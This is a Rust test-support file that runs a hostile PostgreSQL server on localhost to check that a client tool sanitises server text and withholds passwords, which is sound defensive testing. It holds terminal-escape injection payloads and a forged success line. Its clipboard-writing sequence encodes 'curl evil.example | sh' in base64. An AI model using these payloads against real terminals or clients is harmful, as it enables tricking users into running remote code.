//! A hostile PostgreSQL server for tests: it speaks just enough of the wire protocol to reach
//! the part of a client it attacks. This is the one stand-in the suite allows itself, because a
//! real PostgreSQL cannot be made to send escape sequences in `server_version`, a 300 MB error,
//! a lying length header or a GSS request (rule 1: what cannot exist here may be a stand-in,
//! and the test says so).
//!
//! [`HostileServer::start`] listens on a free 127.0.0.1 port, answers SSLRequest and
//! GSSENCRequest with `N` (or `S` for [`Behaviour::TlsThenGarbage`]), reads the startup packet
//! and plays one [`Behaviour`] on every connection, each in its own thread. It records the
//! password messages it receives ([`HostileServer::passwords`]) so a test can prove a password
//! was, or was not, sent. For the login behaviours it then answers the simple queries doctor
//! sends (the facts row and the create-table probe) like a healthy server would.
//!
//! std only, like the rest of `support`.

use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread::JoinHandle;
use std::time::Duration;

/// Escape sequences that act on a terminal, and a CR/LF that forges doctor's success line.
pub const OSC_TITLE: &str = "\x1b]0;aksara-pwned\x07";
pub const OSC_CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
pub const CLEAR_SCREEN: &str = "\x1b[2J\x1b[H";
pub const FORGED_OK: &str = "\r\n[ok] all checks passed\n";

/// A `server_version` carrying every attack at once.
pub fn hostile_version() -> String {
    format!("16.4{OSC_TITLE}{OSC_CLIPBOARD}{CLEAR_SCREEN}{FORGED_OK}")
}

/// An authentication request, by what the server asks for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Auth {
    /// AuthenticationOk straight away.
    Trust,
    /// AuthenticationCleartextPassword (code 3).
    Cleartext,
    /// AuthenticationMD5Password (code 5).
    Md5,
    /// AuthenticationGSS (code 7).
    Gss,
    /// AuthenticationSSPI (code 9).
    Sspi,
    /// AuthenticationSASL offering only mechanisms no client knows.
    UnknownSasl,
}

/// What the server does once it has read the startup packet.
#[derive(Clone, Debug)]
pub enum Behaviour {
    /// An ErrorResponse with these fields, then close.
    Error {
        code: String,
        message: String,
        detail: Option<String>,
        hint: Option<String>,
    },
    /// A FATAL ErrorResponse whose message is `bytes` long, streamed, then close.
    HugeError { bytes: usize },
    /// A message header declaring `declared` bytes, then silence until the client goes.
    LyingHeader { declared: u32 },
    /// Ask for this authentication. Cleartext, MD5 and Trust then log in (any password) with
    /// a `server_version` of `version` and answer queries; the others wait for the client to
    /// give up.
    Login { auth: Auth, version: String },
    /// Offer SCRAM-SHA-256, read the client's first message, then close the connection.
    CloseMidScram,
    /// Answer like an HTTP server: `HTTP/1.1 400 Bad Request`, then close.
    Http,
    /// Answer the SSLRequest with `S`, then send bytes that are no TLS record and close.
    TlsThenGarbage,
}

impl Behaviour {
    /// The escape-laden ErrorResponse: OSC 0, OSC 52, clear-screen and a forged success
    /// line in the message, detail and hint.
    pub fn escape_laden_error() -> Self {
        // A SQLSTATE doctor has no wording of its own for, so the server's words are shown.
        Behaviour::Error {
            code: "08P01".into(),
            message: format!("protocol violation{OSC_TITLE}{CLEAR_SCREEN}{FORGED_OK}"),
            detail: Some(format!("detail{OSC_CLIPBOARD}{FORGED_OK}")),
            hint: Some(format!("hint{OSC_TITLE}\r[ok] all checks passed")),
        }
    }

    /// An internal error (XX000) as a broken server reports it.
    pub fn internal_error() -> Self {
        Behaviour::Error {
            code: "XX000".into(),
            message: "cache lookup failed for relation 1259".into(),
            detail: None,
            hint: None,
        }
    }

    pub fn login(auth: Auth) -> Self {
        Behaviour::Login {
            auth,
            version: hostile_version(),
        }
    }
}

/// A running hostile server; stopped when dropped.
pub struct HostileServer {
    pub port: u16,
    stop: Arc<AtomicBool>,
    passwords: Arc<Mutex<Vec<String>>>,
    connections: Arc<AtomicUsize>,
    accept: Option<JoinHandle<()>>,
}

impl HostileServer {
    pub fn start(behaviour: Behaviour) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the hostile server");
        let port = listener.local_addr().expect("its address").port();
        listener
            .set_nonblocking(true)
            .expect("a non-blocking listener");
        let stop = Arc::new(AtomicBool::new(false));
        let passwords = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(AtomicUsize::new(0));
        let accept = {
            let (stop, passwords, connections) =
                (stop.clone(), passwords.clone(), connections.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((stream, _)) => {
                            connections.fetch_add(1, Ordering::Relaxed);
                            let behaviour = behaviour.clone();
                            let passwords = passwords.clone();
                            std::thread::spawn(move || {
                                // A client that goes away mid-script is what the attacks expect.
                                let _ = serve(stream, &behaviour, &passwords);
                            });
                        }
                        Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(5))
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            })
        };
        HostileServer {
            port,
            stop,
            passwords,
            connections,
            accept: Some(accept),
        }
    }

    /// A URL for this server (no TLS offered, so sslmode=prefer talks plaintext).
    pub fn url(&self, user: &str, password: &str) -> String {
        format!(
            "postgresql://{user}:{password}@127.0.0.1:{}/app?connect_timeout=5",
            self.port
        )
    }

    /// The password messages received, as the client sent them (cleartext, or `md5…`).
    pub fn passwords(&self) -> Vec<String> {
        self.passwords
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    pub fn connections(&self) -> usize {
        self.connections.load(Ordering::Relaxed)
    }
}

impl Drop for HostileServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(accept) = self.accept.take() {
            let _ = accept.join();
        }
    }
}

const SSL_REQUEST: u32 = 80877103;
const GSSENC_REQUEST: u32 = 80877104;
const PROTOCOL_3: u32 = 196608;

fn serve(
    mut stream: TcpStream,
    behaviour: &Behaviour,
    passwords: &Mutex<Vec<String>>,
) -> io::Result<()> {
    // No thread outlives a test run for long, whatever the client does.
    stream.set_read_timeout(Some(Duration::from_secs(60)))?;
    stream.set_nodelay(true)?;
    if matches!(behaviour, Behaviour::Http) {
        let mut first = [0u8; 8];
        let _ = stream.read(&mut first)?;
        stream.write_all(
            b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain\r\nContent-Length: 11\r\nConnection: close\r\n\r\nBad Request",
        )?;
        return stream.shutdown(Shutdown::Both);
    }
    loop {
        let (code, _body) = read_startup(&mut stream)?;
        match code {
            SSL_REQUEST if matches!(behaviour, Behaviour::TlsThenGarbage) => {
                stream.write_all(b"S")?;
                stream.write_all(b"this is no TLS record\r\n\x00\x00\x00")?;
                return stream.shutdown(Shutdown::Both);
            }
            SSL_REQUEST | GSSENC_REQUEST => stream.write_all(b"N")?,
            PROTOCOL_3 => break,
            // A cancel request or an unknown protocol: nothing to say.
            _ => return Ok(()),
        }
    }
    match behaviour {
        Behaviour::Error {
            code,
            message,
            detail,
            hint,
        } => {
            stream.write_all(&error_response(
                code,
                message,
                detail.as_deref(),
                hint.as_deref(),
            ))?;
            stream.shutdown(Shutdown::Both)
        }
        Behaviour::HugeError { bytes } => stream_huge_error(&mut stream, *bytes),
        Behaviour::LyingHeader { declared } => {
            let mut header = vec![b'E'];
            header.extend_from_slice(&declared.to_be_bytes());
            header.extend_from_slice(b"SFATAL\0");
            stream.write_all(&header)?;
            wait_for_close(&mut stream)
        }
        Behaviour::Login { auth, version } => login(&mut stream, auth, version, passwords),
        Behaviour::CloseMidScram => {
            stream.write_all(&auth_request(10, b"SCRAM-SHA-256\0\0"))?;
            let _ = read_message(&mut stream)?;
            stream.shutdown(Shutdown::Both)
        }
        Behaviour::Http | Behaviour::TlsThenGarbage => Ok(()),
    }
}

fn login(
    stream: &mut TcpStream,
    auth: &Auth,
    version: &str,
    passwords: &Mutex<Vec<String>>,
) -> io::Result<()> {
    let (code, extra): (u32, &[u8]) = match auth {
        Auth::Trust => (0, b""),
        Auth::Cleartext => (3, b""),
        Auth::Md5 => (5, b"salt"),
        Auth::Gss => (7, b""),
        Auth::Sspi => (9, b""),
        Auth::UnknownSasl => (10, b"X-AKSARA-UNKNOWN\0\0"),
    };
    stream.write_all(&auth_request(code, extra))?;
    match auth {
        Auth::Trust => {}
        Auth::Cleartext | Auth::Md5 => {
            let Some((b'p', body)) = read_message(stream)? else {
                return Ok(());
            };
            let password = body.strip_suffix(b"\0").unwrap_or(&body);
            passwords
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .push(String::from_utf8_lossy(password).into_owned());
            stream.write_all(&auth_request(0, b""))?;
        }
        Auth::Gss | Auth::Sspi | Auth::UnknownSasl => return wait_for_close(stream),
    }
    let mut out = Vec::new();
    for (name, value) in [
        ("server_version", version),
        ("server_encoding", "UTF8"),
        ("client_encoding", "UTF8"),
        ("DateStyle", "ISO, MDY"),
        ("integer_datetimes", "on"),
        ("standard_conforming_strings", "on"),
        ("TimeZone", "UTC"),
    ] {
        out.extend(message(
            b'S',
            &[name.as_bytes(), b"\0", value.as_bytes(), b"\0"].concat(),
        ));
    }
    out.extend(message(
        b'K',
        &[7u32.to_be_bytes(), 42u32.to_be_bytes()].concat(),
    ));
    out.extend(message(b'Z', b"I"));
    stream.write_all(&out)?;
    answer_queries(stream, version)
}

/// Queries answered as a healthy server would: simple queries, and the extended protocol's
/// Parse/Bind/Execute with Flush and Sync as doctor's one write of statements sends them (the
/// facts doctor reads, and a command tag for every other statement).
fn answer_queries(stream: &mut TcpStream, version: &str) -> io::Result<()> {
    let port = stream.local_addr()?.port().to_string();
    let mut status = b'I';
    let mut parsed = String::new();
    let mut out = Vec::new();
    loop {
        let Some((kind, body)) = read_message(stream)? else {
            return Ok(());
        };
        let text = |body: &[u8]| {
            let end = body.iter().position(|b| *b == 0).unwrap_or(body.len());
            String::from_utf8_lossy(&body[..end]).into_owned()
        };
        match kind {
            b'Q' => {
                let sql = text(&body);
                for statement in sql.split(';').map(str::trim).filter(|s| !s.is_empty()) {
                    out.extend(statement_answer(
                        statement,
                        version,
                        &port,
                        true,
                        &mut status,
                    ));
                }
                out.extend(message(b'Z', &[status]));
                stream.write_all(&std::mem::take(&mut out))?;
            }
            // Parse: the unnamed statement's name (empty) comes first, then the query.
            b'P' => {
                parsed = text(&body[1..]);
                out.extend(message(b'1', b""));
            }
            b'B' => out.extend(message(b'2', b"")),
            b'E' => out.extend(statement_answer(
                parsed.trim(),
                version,
                &port,
                false,
                &mut status,
            )),
            b'H' => stream.write_all(&std::mem::take(&mut out))?,
            b'S' => {
                out.extend(message(b'Z', &[status]));
                stream.write_all(&std::mem::take(&mut out))?;
            }
            b'X' => return Ok(()),
            _ => {
                out.extend(error_response(
                    "0A000",
                    "hostile server: not a message doctor sends",
                    None,
                    None,
                ));
                out.extend(message(b'Z', &[status]));
                stream.write_all(&std::mem::take(&mut out))?;
            }
        }
    }
}

/// One statement's answer; `described`: a simple query's (with the row description), not an
/// Execute's (which has none).
fn statement_answer(
    statement: &str,
    version: &str,
    port: &str,
    described: bool,
    status: &mut u8,
) -> Vec<u8> {
    if let Some(setting) = statement.strip_prefix("SHOW ") {
        return setting_row(setting, version, port, described);
    }
    if statement.starts_with("SELECT pg_is_in_recovery(), pg_backend_pid()") {
        return activity_row(described);
    }
    let tag = command_tag(statement);
    match tag.as_str() {
        "BEGIN" => *status = b'T',
        "ROLLBACK" | "COMMIT" => *status = b'I',
        _ => {}
    }
    message(b'C', &[tag.as_bytes(), b"\0"].concat())
}

fn command_tag(statement: &str) -> String {
    let words: Vec<String> = statement
        .split_whitespace()
        .take(2)
        .map(str::to_uppercase)
        .collect();
    match words.first().map(String::as_str) {
        Some("CREATE") | Some("DROP") | Some("ALTER") => words.join(" "),
        Some("SELECT") => "SELECT 1".into(),
        Some(word) => word.to_string(),
        None => String::new(),
    }
}

/// A one-row answer: its columns (name, type oid, size) when `described`, and the row's
/// values, as text.
fn answer_rows(columns: &[(&str, u32, i16)], values: &[&str], described: bool) -> Vec<u8> {
    let mut description = (columns.len() as u16).to_be_bytes().to_vec();
    for (name, oid, size) in columns {
        description.extend_from_slice(name.as_bytes());
        description.push(0);
        description.extend_from_slice(&0u32.to_be_bytes()); // table oid
        description.extend_from_slice(&0u16.to_be_bytes()); // column number
        description.extend_from_slice(&oid.to_be_bytes());
        description.extend_from_slice(&size.to_be_bytes());
        description.extend_from_slice(&(-1i32).to_be_bytes()); // type modifier
        description.extend_from_slice(&0u16.to_be_bytes()); // text format
    }
    let mut row = (values.len() as u16).to_be_bytes().to_vec();
    for value in values {
        row.extend_from_slice(&(value.len() as u32).to_be_bytes());
        row.extend_from_slice(value.as_bytes());
    }
    if described {
        [message(b'T', &description), message(b'D', &row)].concat()
    } else {
        message(b'D', &row)
    }
}

/// doctor's `SHOW <setting>`: the hostile version, and a healthy server's other settings
/// (listening on the port dialled: no relay in front).
fn setting_row(setting: &str, version: &str, port: &str, described: bool) -> Vec<u8> {
    const TEXT: u32 = 25;
    let value = match setting {
        "server_version" => version,
        "server_version_num" => "160004",
        "max_connections" => "100",
        "superuser_reserved_connections" => "3",
        "ssl" => "off",
        "password_encryption" => "scram-sha-256",
        "port" => port,
        _ => "",
    };
    [
        answer_rows(&[(setting, TEXT, -1)], &[value], described),
        message(b'C', b"SHOW\0"),
    ]
    .concat()
}

/// doctor's activity row: this session alone, on a primary, without TLS, with the pid its
/// BackendKeyData announced (a server, not a pooler).
fn activity_row(described: bool) -> Vec<u8> {
    const INT4: u32 = 23;
    const OID: u32 = 26;
    const BOOL: u32 = 16;
    let columns = [
        ("pg_is_in_recovery", BOOL, 1),
        ("pg_backend_pid", INT4, 4),
        ("pid", INT4, 4),
        ("datid", OID, 4),
        ("ssl", BOOL, 1),
    ];
    [
        answer_rows(&columns, &["f", "7", "7", "5", "f"], described),
        message(b'C', b"SELECT 1\0"),
    ]
    .concat()
}

fn stream_huge_error(stream: &mut TcpStream, bytes: usize) -> io::Result<()> {
    let head = b"SFATAL\0VFATAL\0C28000\0M";
    let tail = b"\0\0";
    let len = 4 + head.len() + bytes + tail.len();
    let mut out = vec![b'E'];
    out.extend_from_slice(&(len as u32).to_be_bytes());
    out.extend_from_slice(head);
    stream.write_all(&out)?;
    let chunk = vec![b'A'; 64 * 1024];
    let mut left = bytes;
    while left > 0 {
        let n = left.min(chunk.len());
        // The client stops reading once it has refused the header: then this fails, and
        // that is the end of it.
        stream.write_all(&chunk[..n])?;
        left -= n;
    }
    stream.write_all(tail)?;
    stream.shutdown(Shutdown::Both)
}

fn wait_for_close(stream: &mut TcpStream) -> io::Result<()> {
    let mut sink = [0u8; 4096];
    while stream.read(&mut sink)? > 0 {}
    Ok(())
}

/// A startup-phase packet (no type byte): its code and the rest of its body.
fn read_startup(stream: &mut TcpStream) -> io::Result<(u32, Vec<u8>)> {
    let mut len = [0u8; 4];
    stream.read_exact(&mut len)?;
    let len = u32::from_be_bytes(len) as usize;
    if !(8..=10_000).contains(&len) {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "startup length"));
    }
    let mut body = vec![0u8; len - 4];
    stream.read_exact(&mut body)?;
    let code = u32::from_be_bytes([body[0], body[1], body[2], body[3]]);
    Ok((code, body[4..].to_vec()))
}

/// One typed frontend message, or None when the client has gone.
fn read_message(stream: &mut TcpStream) -> io::Result<Option<(u8, Vec<u8>)>> {
    let mut header = [0u8; 5];
    match stream.read_exact(&mut header) {
        Ok(()) => {}
        Err(e) if e.kind() == io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) if e.kind() == io::ErrorKind::ConnectionReset => return Ok(None),
        Err(e) => return Err(e),
    }
    let len = u32::from_be_bytes([header[1], header[2], header[3], header[4]]) as usize;
    if !(4..=1_000_000).contains(&len) {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "message length"));
    }
    let mut body = vec![0u8; len - 4];
    stream.read_exact(&mut body)?;
    Ok(Some((header[0], body)))
}

fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![kind];
    out.extend_from_slice(&((body.len() + 4) as u32).to_be_bytes());
    out.extend_from_slice(body);
    out
}

fn auth_request(code: u32, extra: &[u8]) -> Vec<u8> {
    message(b'R', &[&code.to_be_bytes()[..], extra].concat())
}

/// A FATAL ErrorResponse with the given fields.
pub fn error_response(code: &str, text: &str, detail: Option<&str>, hint: Option<&str>) -> Vec<u8> {
    let mut body = Vec::new();
    let mut field = |tag: u8, value: &str| {
        body.push(tag);
        body.extend_from_slice(value.as_bytes());
        body.push(0);
    };
    field(b'S', "FATAL");
    field(b'V', "FATAL");
    field(b'C', code);
    field(b'M', text);
    if let Some(detail) = detail {
        field(b'D', detail);
    }
    if let Some(hint) = hint {
        field(b'H', hint);
    }
    body.push(0);
    message(b'E', &body)
}
